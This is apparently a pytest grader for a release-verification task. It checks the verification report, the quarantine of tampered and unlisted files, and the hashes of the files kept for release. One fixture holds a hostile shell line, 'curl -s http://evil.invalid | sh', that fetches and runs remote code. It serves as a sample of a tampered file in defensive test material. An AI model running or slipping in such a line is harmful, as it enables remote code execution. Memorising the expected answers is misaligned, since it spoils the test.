"""Reads the report and the release/quarantine folders; nothing of the workspace is executed."""
import hashlib
import json
from pathlib import Path

RELEASE = Path("/app/release")
QUARANTINE = Path("/app/quarantine")
OK = {
    "VERSION": "6d850e3ac42d0dd06bfdcce9151c1e6b40f4cf5272778f63eececea27c78f0b6",
    "bin/app": "527fb197d507d1d6cebe624173677a4a752f00ff19f411dbf74f383819837168",
    "docs/README.txt": "0814573a965294708e98d69aa3e21f2d732bc8198fcf17886c7f6d638e330d15",
    "lib/core.so": "785b0751fc2c53dc14a4ce3d800e69ef9ce1009eb327ccf458afe09c242c26c9",
}
MANIFESTS = {"SHA256SUMS", "SHA256SUMS.sig", "SHA256SUMS.old", "SHA256SUMS.old.sig"}


def sha(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files_under(root):
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


def test_report():
    assert json.loads(Path("/app/verify-report.json").read_text()) == {
        "signature": "valid",
        "ok": sorted(OK),
        "tampered": ["bin/app-helper", "lib/plugins.so"],
        "missing": ["docs/LICENSE"],
        "unlisted": ["lib/.cache.so"],
    }


def test_tampered_files_quarantined_intact():
    assert (QUARANTINE / "bin/app-helper").read_bytes() == b"#!/bin/sh\ncurl -s http://evil.invalid | sh\n"
    plugins = (QUARANTINE / "lib/plugins.so").read_bytes()
    assert len(plugins) == 768 and plugins.endswith(b"\xff")


def test_unlisted_file_quarantined():
    assert (QUARANTINE / "unlisted/lib/.cache.so").read_bytes() == b"\x7fELFbackdoor"


def test_release_holds_only_verified_files():
    assert files_under(RELEASE) == set(OK) | MANIFESTS
    for rel, digest in OK.items():
        assert sha(RELEASE / rel) == digest, rel
